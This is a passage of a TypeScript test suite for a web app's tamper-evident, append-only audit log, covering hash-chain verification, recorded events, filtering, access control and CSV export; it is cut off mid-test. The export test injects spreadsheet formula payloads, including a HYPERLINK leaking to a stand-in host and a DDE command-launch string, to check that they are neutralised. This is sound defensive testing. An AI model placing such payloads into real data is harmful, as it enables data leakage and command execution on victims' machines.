import { randomBytes, randomUUID } from 'node:crypto';
import type { AuditEvent } from '@seatwise/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../testing/csv-reader.ts';
import type { Queryable } from '../../db/connect.ts';
import { INSTANCE_ORG_ID } from '../../db/tenant.ts';
import { sha256 } from '../../lib/tokens.ts';
import { createTestApp, strongPassword, type TestApp, type TestSession } from '../../testing/test-app.ts';
import { findAuditEvents } from './audit.repo.ts';
import { recordAudit, verifyAuditChain } from './audit.service.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => t?.close());

// Every organisation signs up from its own address: sign-ups are throttled per IP, and a distinct address
// per request proves that the recorded IP is the caller's.
let lastAddress = 0;
const nextAddress = () => `198.51.100.${++lastAddress}`;
const uniqueEmail = (label: string) => `${label}.${randomBytes(5).toString('hex')}@example.test`;
const agent = (step: string) => `SeatwiseAuditTest/1.0 (${step}; ${randomBytes(3).toString('hex')})`;

interface Caller {
  ip: string;
  userAgent: string;
}

/** The request options that make a request come from `from`. */
const sentBy = (from: Caller) => ({ remoteAddress: from.ip, headers: { 'user-agent': from.userAgent } });

function signInFrom(from: Caller, email: string, password: string, orgId?: string): Promise<TestSession> {
  return t.signIn(email, password, orgId, sentBy(from));
}

/** Signs up, confirms the address and signs in, each from `from`: a new organisation with its Owner. */
async function newOrg(label: string, from: Caller = { ip: nextAddress(), userAgent: agent(label) }): Promise<TestSession> {
  const email = uniqueEmail(label);
  const password = strongPassword();
  const signUp = await t.request({
    method: 'POST',
    url: '/api/auth/sign-up',
    ...sentBy(from),
    payload: { name: `Test ${label}`, email, companyName: `Company of ${label}`, password },
  });
  expect(signUp.statusCode, signUp.body).toBe(202);
  const verify = await t.request({ method: 'POST', url: '/api/auth/verify-email', ...sentBy(from), payload: { token: await t.mailedToken(email) } });
  expect(verify.statusCode, verify.body).toBe(200);
  return signInFrom(from, email, password);
}

/** The organisation's audit log as its `viewer` reads it through the API, newest first. */
async function auditLog(viewer: TestSession, query: Record<string, string | number> = {}): Promise<AuditEvent[]> {
  const search = new URLSearchParams(Object.fromEntries(Object.entries({ limit: 500, ...query }).map(([key, value]) => [key, String(value)])));
  const response = await t.request({ method: 'GET', url: `/api/audit-events?${search}`, as: viewer });
  expect(response.statusCode, response.body).toBe(200);
  return response.json().events;
}

async function verifyViaApi(viewer: TestSession) {
  const response = await t.request({ method: 'GET', url: '/api/audit-events/verify', as: viewer });
  expect(response.statusCode, response.body).toBe(200);
  return response.json() as { ok: boolean; checked: number; firstBrokenSeq: number | null; reason: string | null };
}

const asOwner = <T>(fn: (tx: Queryable) => Promise<T>) => t.database.owner.transaction(fn);

/** Runs `sql` as the database owner with the append-only trigger switched off, as someone tampering would. */
async function tamper(sql: string, params: unknown[]): Promise<void> {
  await asOwner(async (tx) => {
    // On a partitioned table this reaches every partition's clone of the row trigger.
    await tx.query('ALTER TABLE audit_events DISABLE TRIGGER USER');
    const result = await tx.query(sql, params);
    expect(result.rowCount).toBeGreaterThan(0);
    await tx.query('ALTER TABLE audit_events ENABLE TRIGGER USER');
  });
  const { rows } = await asOwner((tx) =>
    tx.query<{ relname: string }>(
      `SELECT c.relname FROM pg_trigger g JOIN pg_class c ON c.oid = g.tgrelid
        WHERE g.tgname LIKE 'audit_events_%' AND g.tgenabled <> 'O'`,
    ),
  );
  expect(rows, 'the append-only triggers are back on').toEqual([]);
}

/** What a database error says, whichever driver raised it. */
async function failure(work: Promise<unknown>): Promise<{ code: string | undefined; message: string }> {
  try {
    await work;
  } catch (error) {
    return { code: (error as { code?: string }).code, message: (error as Error).message };
  }
  throw new Error('the statement was expected to fail but succeeded');
}

const countEvents = (orgId: string) =>
  asOwner(async (tx) => (await tx.query<{ n: number }>('SELECT count(*)::int AS n FROM audit_events WHERE org_id = $1', [orgId])).rows[0]!.n);

/**
 * An organisation whose log holds a sign-up, two sign-ins and two renames; `withRoleChange` adds an
 * invitation, a member joining and a role change (slower: it hashes another password).
 */
async function orgWithHistory(label: string, withRoleChange = false) {
  const owner = await newOrg(label);
  await signInFrom({ ip: nextAddress(), userAgent: agent('second sign-in') }, owner.email, owner.password);
  for (const name of [`${label} renamed`, `${label} renamed again`]) {
    const rename = await t.request({ method: 'PATCH', url: '/api/org', as: owner, payload: { name } });
    expect(rename.statusCode, rename.body).toBe(200);
  }
  if (withRoleChange) {
    const member = await t.addMember(owner, 'employee');
    const change = await t.request({ method: 'PATCH', url: `/api/members/${member.userId}`, as: owner, payload: { role: 'viewer' } });
    expect(change.statusCode, change.body).toBe(200);
  }
  const events = (await auditLog(owner)).reverse();
  const seqOf = (action: string, nth = 0) => {
    const found = events.filter((event) => event.action === action)[nth];
    if (!found) throw new Error(`no ${action} event #${nth}`);
    return found.seq;
  };
  return { owner, events, seqOf };
}

describe('append-only', () => {
  it('AUD-01 the application role cannot update or delete audit rows', async () => {
    const owner = await newOrg('append-only');
    const before = await countEvents(owner.orgId);
    expect(before).toBeGreaterThanOrEqual(4);
    const partition = await asOwner(
      async (tx) =>
        (await tx.query<{ name: string }>('SELECT tableoid::regclass::text AS name FROM audit_events WHERE org_id = $1 LIMIT 1', [owner.orgId]))
          .rows[0]!.name,
    );

    // The application role (tenant and system transactions): no privilege at all.
    const asApp = (sql: string) => t.tenancy.withTenantTx({ orgId: owner.orgId, userId: owner.userId }, (tx) => tx.query(sql, []));
    const asSystem = (sql: string) => t.tenancy.withSystemTx('audit append-only test', (tx) => tx.query(sql, []));
    for (const run of [asApp, asSystem]) {
      for (const sql of [
        `UPDATE audit_events SET action = 'forged' WHERE org_id = '${owner.orgId}'`,
        `UPDATE audit_events SET details = '{}'::jsonb`,
        `DELETE FROM audit_events WHERE org_id = '${owner.orgId}'`,
        'DELETE FROM audit_events',
        'TRUNCATE audit_events',
        `UPDATE ${partition} SET action = 'forged'`,
        `DELETE FROM ${partition}`,
        `TRUNCATE ${partition}`,
      ]) {
        const refused = await failure(run(sql));
        expect(refused.code, sql).toBe('42501');
        expect(refused.message, sql).toMatch(/permission denied/i);
      }
      for (const sql of ['ALTER TABLE audit_events DISABLE TRIGGER USER', 'DROP TRIGGER audit_events_append_only ON audit_events']) {
        expect((await failure(run(sql))).message, sql).toMatch(/must be (the )?owner/i);
      }
    }

    // The owner (a superuser on PGlite and in the test cluster) is stopped by the append-only triggers.
    for (const sql of [
      `UPDATE audit_events SET action = 'forged' WHERE org_id = '${owner.orgId}'`,
      `DELETE FROM audit_events WHERE org_id = '${owner.orgId}'`,
      'TRUNCATE audit_events',
      `UPDATE ${partition} SET action = 'forged'`,
      `DELETE FROM ${partition}`,
      `TRUNCATE ${partition}`,
      'TRUNCATE audit_events_default',
    ]) {
      const refused = await failure(asOwner((tx) => tx.query(sql)));
      expect(refused.message, sql).toMatch(/the audit log is append-only: (UPDATE|DELETE|TRUNCATE) is refused/);
    }

    expect(await countEvents(owner.orgId)).toBe(before);
    const log = await auditLog(owner);
    expect(log.map((event) => event.action)).not.toContain('forged');
    expect(await verifyViaApi(owner)).toMatchObject({ ok: true, checked: before });
  });
});

describe('tamper evidence', () => {
  it('AUD-01 the hash chain detects a changed, removed or reordered event', async () => {
    const intact = await orgWithHistory('intact', true);
    expect(intact.events.map((event) => event.action)).toEqual(
      expect.arrayContaining(['auth.sign_up', 'auth.sign_in', 'org.update', 'member.invite', 'member.join', 'member.role_change']),
    );
    expect(intact.events.map((event) => event.seq)).toEqual(intact.events.map((_, index) => index + 1));
    expect(await verifyViaApi(intact.owner)).toEqual({ ok: true, checked: intact.events.length, firstBrokenSeq: null, reason: null });

    type Org = Awaited<ReturnType<typeof orgWithHistory>>;
    const cases: { name: string; run: (org: Org) => Promise<number> }[] = [
      {
        name: 'an action changed',
        run: async ({ owner, seqOf }) => {
          const seq = seqOf('auth.sign_in', 1);
          await tamper(`UPDATE audit_events SET action = 'auth.sign_out' WHERE org_id = $1 AND seq = $2`, [owner.orgId, seq]);
          return seq;
        },
      },
      {
        name: 'details changed',
        run: async ({ owner, seqOf }) => {
          const seq = seqOf('org.update');
          await tamper(`UPDATE audit_events SET details = jsonb_set(details, '{to}', '"Someone else"') WHERE org_id = $1 AND seq = $2`, [owner.orgId, seq]);
          return seq;
        },
      },
      {
        name: 'the outcome changed',
        run: async ({ owner, seqOf }) => {
          const seq = seqOf('auth.sign_in', 0);
          await tamper(`UPDATE audit_events SET outcome = 'failure' WHERE org_id = $1 AND seq = $2`, [owner.orgId, seq]);
          return seq;
        },
      },
      {
        name: 'an event in the middle removed',
        run: async ({ owner, seqOf }) => {
          const seq = seqOf('auth.email_verified');
          await tamper('DELETE FROM audit_events WHERE org_id = $1 AND seq = $2', [owner.orgId, seq]);
          return seq;
        },
      },
      {
        name: 'two events swapped',
        run: async ({ owner, seqOf }) => {
          const first = seqOf('auth.email_verified');
          const second = seqOf('auth.sign_in', 0);
          expect(second).toBe(first + 1);
          await tamper(
            `UPDATE audit_events SET seq = CASE seq WHEN $2::bigint THEN $3::bigint ELSE $2::bigint END
              WHERE org_id = $1 AND seq IN ($2, $3)`,
            [owner.orgId, first, second],
          );
          return first;
        },
      },
      {
        name: 'the newest event removed',
        run: async ({ owner, events }) => {
          const seq = events.at(-1)!.seq;
          await tamper('DELETE FROM audit_events WHERE org_id = $1 AND seq = $2', [owner.orgId, seq]);
          return seq;
        },
      },
    ];

    // One organisation per case, so that one tampering cannot hide or cause another's finding.
    const orgs = await Promise.all(cases.map((tamperCase) => orgWithHistory(tamperCase.name.replaceAll(' ', '-'))));
    for (const [index, tamperCase] of cases.entries()) {
      const org = orgs[index]!;
      expect(await verifyViaApi(org.owner), `${tamperCase.name}: before`).toMatchObject({ ok: true, firstBrokenSeq: null });
      const brokenSeq = await tamperCase.run(org);
      const result = await verifyViaApi(org.owner);
      expect(result, tamperCase.name).toMatchObject({ ok: false, firstBrokenSeq: brokenSeq, checked: brokenSeq - 1 });
      expect(result.reason, tamperCase.name).toEqual(expect.any(String));
    }

    // Tampering with other organisations leaves this one's chain whole.
    expect(await verifyViaApi(intact.owner)).toMatchObject({ ok: true, checked: intact.events.length });
  });
});

describe('what is recorded', () => {
  it('AUD-01 sign-in success and failure, sign-out, refresh reuse, password change and reset, e-mail verification, invitation, role change, member removal and export are recorded', async () => {
    const startedAt = Date.now();
    const signUpFrom = { ip: nextAddress(), userAgent: agent('sign-up and e-mail verification') };
    const owner = await newOrg('recorded', signUpFrom);
    const signInOwnerFrom = { ip: signUpFrom.ip, userAgent: signUpFrom.userAgent };

    // Sign-in failure (wrong password) for a known account.
    const wrongFrom = { ip: nextAddress(), userAgent: agent('wrong password') };
    const wrong = await t.request({ method: 'POST', url: '/api/auth/sign-in', ...sentBy(wrongFrom), payload: { email: owner.email, password: 'not-the-password-1' } });
    expect(wrong.statusCode).toBe(401);

    // Invitation and joining.
    const inviteFrom = { ip: nextAddress(), userAgent: agent('invite') };
    const memberEmail = uniqueEmail('member');
    const invite = await t.request({ method: 'POST', url: '/api/invitations', as: owner, ...sentBy(inviteFrom), payload: { email: memberEmail, role: 'employee' } });
    expect(invite.statusCode, invite.body).toBe(201);
    const invitationId: string = invite.json().id;
    const joinFrom = { ip: nextAddress(), userAgent: agent('accept invitation') };
    const accept = await t.request({
      method: 'POST',
      url: '/api/invitations/accept',
      ...sentBy(joinFrom),
      payload: { token: await t.mailedToken(memberEmail), name: 'Test member', password: strongPassword() },
    });
    expect(accept.statusCode, accept.body).toBe(200);
    const members = await t.request({ method: 'GET', url: '/api/members', as: owner });
    const memberId: string = members.json().members.find((m: { email: string }) => m.email === memberEmail).userId;

    // Role change, then removal.
    const roleFrom = { ip: nextAddress(), userAgent: agent('role change') };
    const role = await t.request({ method: 'PATCH', url: `/api/members/${memberId}`, as: owner, ...sentBy(roleFrom), payload: { role: 'viewer' } });
    expect(role.statusCode, role.body).toBe(200);
    const removeFrom = { ip: nextAddress(), userAgent: agent('remove member') };
    const remove = await t.request({ method: 'DELETE', url: `/api/members/${memberId}`, as: owner, ...sentBy(removeFrom) });
    expect(remove.statusCode, remove.body).toBe(200);

    // Refresh token reuse: a token spent a minute ago is presented again.
    const refreshSignInFrom = { ip: nextAddress(), userAgent: agent('sign-in before refresh') };
    const refreshed = await signInFrom(refreshSignInFrom, owner.email, owner.password);
    const first = await t.request({ method: 'POST', url: '/api/auth/refresh', ...sentBy(refreshSignInFrom), payload: { refreshToken: refreshed.refreshToken } });
    expect(first.statusCode, first.body).toBe(200);
    await asOwner((tx) =>
      tx.query(`UPDATE refresh_tokens SET used_at = now() - interval '1 minute' WHERE token_hash = $1`, [sha256(refreshed.refreshToken)]),
    );
    const reuseFrom = { ip: nextAddress(), userAgent: agent('refresh reuse') };
    const reuse = await t.request({ method: 'POST', url: '/api/auth/refresh', ...sentBy(reuseFrom), payload: { refreshToken: refreshed.refreshToken } });
    expect(reuse.statusCode).toBe(401);
    expect(reuse.json().error.code).toBe('auth.refresh_reuse');

    // Sign-out of a session of its own.
    const signOutSignInFrom = { ip: nextAddress(), userAgent: agent('sign-in before sign-out') };
    const leaving = await signInFrom(signOutSignInFrom, owner.email, owner.password);
    const signOutFrom = { ip: nextAddress(), userAgent: agent('sign-out') };
    const signOut = await t.request({ method: 'POST', url: '/api/auth/sign-out', as: leaving, ...sentBy(signOutFrom) });
    expect(signOut.statusCode, signOut.body).toBe(200);

    // Password change.
    const changeFrom = { ip: nextAddress(), userAgent: agent('password change') };
    const newPassword = strongPassword();
    const change = await t.request({
      method: 'POST',
      url: '/api/auth/change-password',
      as: owner,
      ...sentBy(changeFrom),
      payload: { currentPassword: owner.password, newPassword },
    });
    expect(change.statusCode, change.body).toBe(200);

    // Password reset: the request and the new password.
    const resetRequestFrom = { ip: nextAddress(), userAgent: agent('password reset request') };
    const resetRequest = await t.request({ method: 'POST', url: '/api/auth/password-reset', ...sentBy(resetRequestFrom), payload: { email: owner.email } });
    expect(resetRequest.statusCode, resetRequest.body).toBe(202);
    const resetFrom = { ip: nextAddress(), userAgent: agent('password reset') };
    const resetPassword = strongPassword();
    const reset = await t.request({
      method: 'POST',
      url: '/api/auth/password-reset/confirm',
      ...sentBy(resetFrom),
      payload: { token: await t.mailedToken(owner.email), password: resetPassword },
    });
    expect(reset.statusCode, reset.body).toBe(200);

    // The reset ended every session: sign in again, then export.
    const afterResetFrom = { ip: nextAddress(), userAgent: agent('sign-in after reset') };
    const again = await signInFrom(afterResetFrom, owner.email, resetPassword);
    const exportFrom = { ip: nextAddress(), userAgent: agent('export') };
    const exported = await t.request({ method: 'GET', url: '/api/audit-events/export.csv', as: again, ...sentBy(exportFrom) });
    expect(exported.statusCode, exported.body).toBe(200);

    // A failed sign-in for an address that has no account.
    const ghostEmail = uniqueEmail('ghost-person');
    const ghostFrom = { ip: nextAddress(), userAgent: agent('unknown account') };
    const ghost = await t.request({ method: 'POST', url: '/api/auth/sign-in', ...sentBy(ghostFrom), payload: { email: ghostEmail, password: 'whatever-it-is-1' } });
    expect(ghost.statusCode).toBe(401);

    const log = await auditLog(again);
    const finishedAt = Date.now();
    const one = (from: Caller, action: string) => {
      const found = log.filter((event) => event.userAgent === from.userAgent && event.action === action);
      expect(found, `${action} from ${from.userAgent}`).toHaveLength(1);
      const event = found[0]!;
      expect(event.ip, action).toBe(from.ip);
      const at = Date.parse(event.occurredAt);
      expect(at, action).toBeGreaterThanOrEqual(startedAt - 1000);
      expect(at, action).toBeLessThanOrEqual(finishedAt + 1000);
      return event;
    };
    const uuid = expect.stringMatching(/^[0-9a-f-]{36}$/);

    expect(one(signUpFrom, 'auth.email_verified')).toMatchObject({ outcome: 'success', actorUserId: owner.userId, targetType: 'user', targetId: owner.userId });
    const firstSignIn = one(signInOwnerFrom, 'auth.sign_in');
    expect(firstSignIn).toMatchObject({ outcome: 'success', actorUserId: owner.userId, actorLabel: owner.email, targetType: 'session', targetId: uuid });
    expect(one(wrongFrom, 'auth.sign_in')).toMatchObject({
      outcome: 'failure',
      actorUserId: owner.userId,
      actorLabel: owner.email,
      targetType: 'user',
      targetId: owner.userId,
      details: { reason: 'wrong_password' },
    });
    expect(one(inviteFrom, 'member.invite')).toMatchObject({
      outcome: 'success',
      actorUserId: owner.userId,
      targetType: 'invitation',
      targetId: invitationId,
      details: { email: memberEmail, role: 'employee' },
    });
    expect(one(joinFrom, 'member.join')).toMatchObject({ outcome: 'success', actorUserId: memberId, actorLabel: memberEmail, targetType: 'invitation', targetId: invitationId });
    expect(one(roleFrom, 'member.role_change')).toMatchObject({
      outcome: 'success',
      actorUserId: owner.userId,
      targetType: 'user',
      targetId: memberId,
      details: { from: 'employee', to: 'viewer' },
    });
    expect(one(removeFrom, 'member.remove')).toMatchObject({ outcome: 'success', actorUserId: owner.userId, targetType: 'user', targetId: memberId });
    const refreshSession = one(refreshSignInFrom, 'auth.sign_in').targetId;
    expect(one(reuseFrom, 'auth.refresh_reuse')).toMatchObject({ outcome: 'denied', actorUserId: owner.userId, targetType: 'session', targetId: refreshSession });
    const leavingSession = one(signOutSignInFrom, 'auth.sign_in').targetId;
    expect(leavingSession).not.toBe(refreshSession);
    expect(one(signOutFrom, 'auth.sign_out')).toMatchObject({ outcome: 'success', actorUserId: owner.userId, targetType: 'session', targetId: leavingSession });
    expect(one(changeFrom, 'auth.password_change')).toMatchObject({ outcome: 'success', actorUserId: owner.userId, targetType: 'user', targetId: owner.userId });
    expect(one(resetRequestFrom, 'auth.password_reset_requested')).toMatchObject({ outcome: 'success', targetType: 'user', targetId: owner.userId });
    expect(one(resetFrom, 'auth.password_reset')).toMatchObject({ outcome: 'success', actorUserId: owner.userId, targetType: 'user', targetId: owner.userId });
    expect(one(exportFrom, 'audit.export')).toMatchObject({
      outcome: 'success',
      actorUserId: owner.userId,
      targetType: 'audit_log',
      details: { format: 'csv' },
    });

    // The unknown address belongs to no organisation: its failure is in the instance chain, not here.
    expect(log.filter((event) => event.userAgent === ghostFrom.userAgent)).toEqual([]);
    const instance = await t.tenancy.withTenantTx({ orgId: INSTANCE_ORG_ID, userId: null }, async (tx) => ({
      rows: (await tx.query<Record<string, unknown>>('SELECT * FROM audit_events WHERE org_id = $1 AND user_agent = $2', [INSTANCE_ORG_ID, ghostFrom.userAgent])).rows,
      chain: await verifyAuditChain(tx, INSTANCE_ORG_ID),
    }));
    expect(instance.rows).toHaveLength(1);
    const row = instance.rows[0]!;
    expect(row).toMatchObject({ action: 'auth.sign_in', outcome: 'failure', ip: ghostFrom.ip, actor_user_id: null, details: { reason: 'unknown_account' } });
    const rowText = JSON.stringify(row, (_key, value: unknown) => (value instanceof Uint8Array ? Buffer.from(value).toString('hex') : value)).toLowerCase();
    expect(rowText).not.toContain(ghostEmail);
    expect(rowText).not.toContain(ghostEmail.split('@')[0]!);
    expect(instance.chain).toMatchObject({ ok: true });

    expect(await verifyViaApi(again)).toMatchObject({ ok: true, checked: log.length });
  });
});

describe('reading the log', () => {
  it('AUD-02 Owners and Admins filter the audit log by actor, action and time, and page through it', async () => {
    const owner = await newOrg('filters');
    const admin = await t.addMember(owner, 'admin');
    await t.addMember(owner, 'employee');
    const rename = async (as: TestSession, name: string) => {
      const response = await t.request({ method: 'PATCH', url: '/api/org', as, payload: { name } });
      expect(response.statusCode, response.body).toBe(200);
    };
    for (const name of ['Owner one', 'Owner two', 'Owner three']) await rename(owner, name);
    for (const name of ['Admin one', 'Admin two']) await rename(admin, name);
    const wrong = await t.request({ method: 'POST', url: '/api/auth/sign-in', payload: { email: admin.email, password: 'not-the-password-1' } });
    expect(wrong.statusCode).toBe(401);

    for (const reader of [owner, admin]) {
      const all = await auditLog(reader);
      expect(all.length).toBeGreaterThanOrEqual(15);
      expect(all.map((event) => event.seq)).toEqual([...all.map((event) => event.seq)].sort((a, b) => b - a));

      const byAdmin = await auditLog(reader, { actor: admin.userId });
      expect(byAdmin.length).toBeGreaterThanOrEqual(4);
      expect(byAdmin).toEqual(all.filter((event) => event.actorUserId === admin.userId));

      const renames = await auditLog(reader, { action: 'org.update' });
      expect(renames.map((event) => event.details.to)).toEqual(['Admin two', 'Admin one', 'Owner three', 'Owner two', 'Owner one']);

      const adminRenames = await auditLog(reader, { action: 'org.update', actor: admin.userId });
      expect(adminRenames.map((event) => event.details.to)).toEqual(['Admin two', 'Admin one']);

      // An action family: every member.* event, and nothing else.
      const memberEvents = await auditLog(reader, { action: 'member' });
      expect(memberEvents).toEqual(all.filter((event) => event.action.startsWith('member.')));
      expect(memberEvents.map((event) => event.action)).toEqual(expect.arrayContaining(['member.invite', 'member.join']));

      // Authentication failures are visible to the organisation's Owners and Admins.
      const failures = (await auditLog(reader, { action: 'auth.sign_in' })).filter((event) => event.outcome === 'failure');
      expect(failures).toEqual([expect.objectContaining({ actorUserId: admin.userId, details: { reason: 'wrong_password' } })]);

      // A time window: from is inclusive, to exclusive.
      const ascending = [...all].reverse();
      const from = ascending[3]!.occurredAt;
      const to = ascending[ascending.length - 3]!.occurredAt;
      const windowed = await auditLog(reader, { from, to });
      const expected = all.filter((event) => event.occurredAt >= from && event.occurredAt < to);
      expect(expected.length).toBeGreaterThan(0);
      expect(windowed).toEqual(expected);
      expect(await auditLog(reader, { from: to, to: from })).toEqual([]);

      // Paging backwards with limit and the before cursor visits every event once.
      const seen: number[] = [];
      let before: number | null = null;
      for (let page = 0; page < 50; page += 1) {
        const query: Record<string, number> = before === null ? { limit: 4 } : { limit: 4, before };
        const search = new URLSearchParams(Object.fromEntries(Object.entries(query).map(([key, value]) => [key, String(value)])));
        const response = await t.request({ method: 'GET', url: `/api/audit-events?${search}`, as: reader });
        expect(response.statusCode).toBe(200);
        const body = response.json() as { events: AuditEvent[]; nextBefore: number | null };
        expect(body.events.length).toBeLessThanOrEqual(4);
        seen.push(...body.events.map((event) => event.seq));
        if (body.nextBefore === null) break;
        expect(body.nextBefore).toBe(body.events.at(-1)!.seq);
        before = body.nextBefore;
      }
      expect(seen).toEqual(all.map((event) => event.seq));

      // A filter and the cursor together.
      const olderRenames = await auditLog(reader, { action: 'org.update', before: renames[1]!.seq });
      expect(olderRenames).toEqual(renames.slice(2));
    }

    for (const bad of ['action=Member', 'action=member%25', 'limit=0', 'limit=501', 'actor=not-a-uuid', 'from=yesterday', 'before=-1', 'orgId=x']) {
      const response = await t.request({ method: 'GET', url: `/api/audit-events?${bad}`, as: owner });
      expect(response.statusCode, bad).toBe(400);
    }
  });

  it('AUD-02 an action filter is matched literally, never as a LIKE pattern', async () => {
    const orgId = randomUUID();
    const record = (action: string) => t.tenancy.withTenantTx({ orgId, userId: null }, (tx) => recordAudit(tx, { orgId, action, outcome: 'success' }));
    for (const action of ['test.a_b', 'test.a_b.c', 'test.aXb.c', 'test.a_bc', 'test.ab']) await record(action);
    const found = await t.tenancy.withTenantTx({ orgId, userId: null }, (tx) =>
      findAuditEvents(tx, { orgId, action: 'test.a_b', limit: 100, order: 'asc' }),
    );
    expect(found.map((row) => row.action)).toEqual(['test.a_b', 'test.a_b.c']);
  });
});


const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'];
const EXPORT_HEADER = ['seq', 'occurredAt', 'actorUserId', 'actorLabel', 'action', 'targetType', 'targetId', 'outcome', 'ip', 'userAgent', 'details'];

describe('export', () => {
  it('AUD-02 the CSV export neutralises formula cells and is itself audited', async () => {
    const owner = await newOrg('export');
    const admin = await t.addMember(owner, 'admin');
    const dangerousAgents = ['=HYPERLINK("http://evil.test/?leak=1","open me")', '+1+1', '-2+3', '@SUM(1,2)', '=cmd|\' /C calc\'!A0'];
    const dangerousNames = ['=1+2', '=HYPERLINK("http://evil.test","x")', '-1', '@A1'];
    for (const [index, name] of dangerousNames.entries()) {
      const response = await t.request({
        method: 'PATCH',
        url: '/api/org',
        as: owner,
        headers: { 'user-agent': dangerousAgents[index % dangerousAgents.length]! },
        payload: { name },
      });
      expect(response.statusCode, response.body).toBe(200);
    }
    const lastAgent = dangerousAgents.at(-1)!;
    const extra = await t.request({ method: 'PATCH', url: '/api/org', as: owner, headers: { 'user-agent': lastAgent }, payload: { name: 'Plain name' } });
    expect(extra.statusCode).toBe(200);
    const before = await auditLog(owner);

    const response = await t.request({ method: 'GET', url: '/api/audit-events/export.csv', as: owner, headers: { 'user-agent': 'SeatwiseAuditTest/1.0 (export)' } });
    expect(response.statusCode, response.body).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="seatwise-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(response.body);
    expect(rows[0]).toEqual(EXPORT_HEADER);
    const data = rows.slice(1);
    expect(data).toHaveLength(before.length);
    expect(data.map((row) => Number(row[0]))).toEqual(before.map((event) => event.seq).reverse());
    for (const row of data) {
      expect(row).toHaveLength(EXPORT_HEADER.length);
      for (const cell of row) expect(FORMULA_LEADS.some((lead) => cell.startsWith(lead)), cell).toBe(false);
    }
    // Each dangerous user agent reads back as text: the same characters behind an apostrophe.
    const agents = new Set(data.map((row) => row[9]));
    for (const dangerous of dangerousAgents) expect(agents.has(`'${dangerous}`), dangerous).toBe(true);
    // The names sit inside the JSON details cell, which a spreadsheet shows as text.
    const renameDetails = data.filter((row) => row[4] === 'org.update').map((row) => JSON.parse(row[10]!));
    expect(renameDetails.map((details) => details.to)).toEqual([...dangerousNames, 'Plain name']);
    expect(response.body).toContain('"\'=HYPERLINK(""http://evil.test/?leak=1"",""open me"")"');

    // The export is itself in the log, with what was exported.
    const after = await auditLog(owner);
    expect(after).toHaveLength(before.length + 1);
    expect(after[0]).toMatchObject({
      action: 'audit.export',
      outcome: 'success',
      actorUserId: owner.userId,
      actorLabel: owner.email,
      targetType: 'audit_log',
      userAgent: 'SeatwiseAuditTest/1.0 (export)',
      details: { format: 'csv', rows: before.length, filter: {} },
    });

    // A filtered export by an Admin holds only the matching events and records its filter.
    const filtered = await t.request({ method: 'GET', url: '/api/audit-events/export.csv?action=org.update', as: admin });
    expect(filtered.statusCode, filtered.body).toBe(200);
    const filteredRows = parseCsv(filtered.body).slice(1);
    expect(filteredRows).toHaveLength(dangerousNames.length + 1);
    expect(new Set(filteredRows.map((row) => row[4]))).toEqual(new Set(['org.update']));
    expect((await auditLog(owner, { limit: 1 }))[0]).toMatchObject({
      action: 'audit.export',
      actorUserId: admin.userId,
      details: { format: 'csv', rows: dangerousNames.length + 1, filter: { action: 'org.update' } },
    });
    expect(await verifyViaApi(owner)).toMatchObject({ ok: true });
  });
});

describe('who may read the log', () => {
  it('AUD-02 Managers, HR, Viewers and Employees cannot read or export the audit log', async () => {
    const owner = await newOrg('readers');
    const others = [];
    for (const role of ['manager', 'hr', 'viewer', 'employee'] as const) others.push(await t.addMember(owner, role));
    const before = await auditLog(owner);
    for (const member of others) {
      for (const url of ['/api/audit-events', '/api/audit-events?limit=5', '/api/audit-events/export.csv', '/api/audit-events/verify']) {
        const response = await t.request({ method: 'GET', url, as: member });
        expect(response.statusCode, `${member.role} ${url}`).toBe(403);
        expect(response.body, `${member.role} ${url}`).not.toContain(owner.email);
      }
    }
    // Nothing was exported, so nothing new was recorded.
    expect(await auditLog(owner)).toEqual(before);
    for (const url of ['/api/audit-events', '/api/audit-events/export.csv', '/api/audit-events/verify']) {
      expect((await t.request({ method: 'GET', url })).statusCode, url).toBe(401);
    }

    // Another organisation's Owner sees only their own organisation's events.
    const stranger = await newOrg('stranger');
    const theirs = await auditLog(stranger);
    expect(theirs.length).toBeGreaterThan(0);
    const ourIds = new Set([owner.userId, ...others.map((member) => member.userId), owner.orgId]);
    for (const event of theirs) {
      expect(ourIds.has(event.actorUserId ?? '')).toBe(false);
      expect(ourIds.has(event.targetId ?? '')).toBe(false);
    }
    expect(await auditLog(stranger, { actor: owner.userId })).toEqual([]);
    const theirExport = await t.request({ method: 'GET', url: `/api/audit-events/export.csv?actor=${owner.userId}`, as: stranger });
    expect(theirExport.statusCode).toBe(200);
    expect(parseCsv(theirExport.body)).toEqual([EXPORT_HEADER]);
    expect(theirExport.body).not.toContain(owner.email);
    expect(await verifyViaApi(stranger)).toMatchObject({ ok: true, checked: theirs.length + 1 });
    // And the stranger's export went to the stranger's log, not ours.
    expect(await auditLog(owner)).toEqual(before);
  });
});

describe('chain integrity', () => {
  it('AUD-01 concurrent events of one organisation form a gap-free chain that verifies', async () => {
    const orgId = randomUUID();
    const burst = (from: number) =>
      Promise.all(
        Array.from({ length: 20 }, (_, index) =>
          t.tenancy.withTenantTx({ orgId, userId: null }, (tx) =>
            recordAudit(tx, { orgId, action: 'test.concurrent', outcome: 'success', details: { n: from + index } }),
          ),
        ),
      );
    // The first burst also races to create the chain's head; the second appends to it.
    await burst(0);
    await burst(20);
    const { rows, chain } = await t.tenancy.withTenantTx({ orgId, userId: null }, async (tx) => ({
      rows: await findAuditEvents(tx, { orgId, limit: 100, order: 'asc' }),
      chain: await verifyAuditChain(tx, orgId),
    }));
    expect(rows.map((row) => row.seq)).toEqual(Array.from({ length: 40 }, (_, index) => index + 1));
    expect(rows.map((row) => row.details.n as number).sort((a, b) => a - b)).toEqual(Array.from({ length: 40 }, (_, index) => index));
    for (const [index, row] of rows.entries()) {
      if (index > 0) expect(Buffer.from(row.prev_hash).equals(Buffer.from(rows[index - 1]!.hash))).toBe(true);
    }
    expect(chain).toEqual({ ok: true, checked: 40, firstBrokenSeq: null, reason: null });
  });

  it('AUD-01 an event whose text or details the database normalises still verifies', async () => {
    const orgId = randomUUID();
    await t.tenancy.withTenantTx({ orgId, userId: null }, async (tx) => {
      await recordAudit(tx, {
        orgId,
        action: 'test.odd_values',
        outcome: 'success',
        actorLabel: 'half a pair \ud83d here',
        userAgent: `${'x'.repeat(499)}😀 cut in the middle of the emoji`,
